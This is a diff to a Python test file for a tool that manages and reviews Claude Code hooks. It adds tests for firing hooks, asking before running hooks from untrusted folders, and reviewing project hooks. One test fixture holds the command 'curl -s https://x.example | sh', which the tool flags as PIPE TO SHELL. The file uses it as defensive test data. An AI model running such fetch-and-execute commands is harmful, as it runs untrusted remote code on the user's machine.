@@ -11,8 +11,9 @@ from textual.widgets import Input
 
 from hookdash.core import with_claude
 from hookdash.tui.app import HookdashApp
+from hookdash.tui.screens.confirm import ConfirmScreen
+from hookdash.tui.screens.output import OutputScreen
 from hookdash.tui.widgets.banners import Banner
-from hookdash.tui.widgets.hook_details import HookDetails
 from hookdash.tui.widgets.hook_tree import HookTree
 from tests.conftest import Sandbox, command_hook, settings_with
 from tests.tui.helpers import record_notifications, select, text_of, tree_lines, until
@@ -158,13 +159,63 @@ async def test_actions_on_a_claude_hook_say_what_they_cannot_do_yet(sandbox: San
     async with app.run_test(size=(120, 36)) as pilot:
         await pilot.pause()
         shown = record_notifications(app)
-        for key in ("space", "f", "e", "d", "p"):
+        for key in ("space", "e", "d", "p"):
             select(app.screen.query_one(HookTree), "echo claude-guard")
             await pilot.press(key)
             await pilot.pause()
         titles = [kwargs.get("title") for _, kwargs in shown]
-        assert titles == ["Not for Claude Code hooks yet"] * 5, shown
-        assert isinstance(app.screen.query_one(HookDetails), HookDetails)
+        assert titles == ["Not for Claude Code hooks yet"] * 4, shown
+
+
+async def test_f_fires_a_claude_hook_and_shows_what_claude_would_do(sandbox: Sandbox) -> None:
+    both_setup(sandbox)
+    app = both_app(sandbox)
+    async with app.run_test(size=(120, 36)) as pilot:
+        await pilot.pause()
+        select(app.screen.query_one(HookTree), "echo claude-guard")  # the user's: no question
+        await pilot.press("f")
+        await until(lambda: isinstance(app.screen, OutputScreen))
+        text = app.screen.text  # type: ignore[attr-defined]
+    assert "what Claude Code would do" in text and "exit 0" in text
+    assert "claude-guard" in text
+    log = (sandbox.state / "runs.jsonl").read_text()
+    assert '"host": "claude"' in log or "echo claude-guard" in log
+
+
+async def test_f_on_a_project_hook_of_an_untrusted_folder_asks_first(sandbox: Sandbox) -> None:
+    both_setup(sandbox)
+    app = both_app(sandbox)
+    async with app.run_test(size=(120, 36)) as pilot:
+        await pilot.pause()
+        select(app.screen.query_one(HookTree), "echo done")
+        await pilot.press("f")
+        await until(lambda: isinstance(app.screen, ConfirmScreen))
+        await pilot.press("n")
+        await until(lambda: not isinstance(app.screen, ConfirmScreen))
+        assert not isinstance(app.screen, OutputScreen)
+    assert not (sandbox.state / "runs.jsonl").exists()
+
+
+async def test_t_reviews_claude_project_hooks(sandbox: Sandbox) -> None:
+    both_setup(sandbox)
+    app = both_app(sandbox)
+    async with app.run_test(size=(120, 36)) as pilot:
+        await pilot.pause()
+        banner = next(b for b in app.screen.query(Banner) if b.has_class("trust"))
+        assert "2 Claude Code project hooks not reviewed yet" in text_of(banner)
+        await pilot.press("T")
+        await until(lambda: isinstance(app.screen, ConfirmScreen))
+        body = text_of(app.screen.query_one("#confirm-body"), 200)
+        assert "curl -s https://x.example | sh" in body and "echo done" in body
+        assert "PIPE TO SHELL" in body
+        await pilot.press("y")
+        await until(
+            lambda: (
+                app.config is not None
+                and app.config.claude is not None
+                and all(h.review != "new" for h in app.config.claude.hooks)
+            )
+        )
 
 
 def test_claude_settings_json_is_valid(sandbox: Sandbox) -> None:
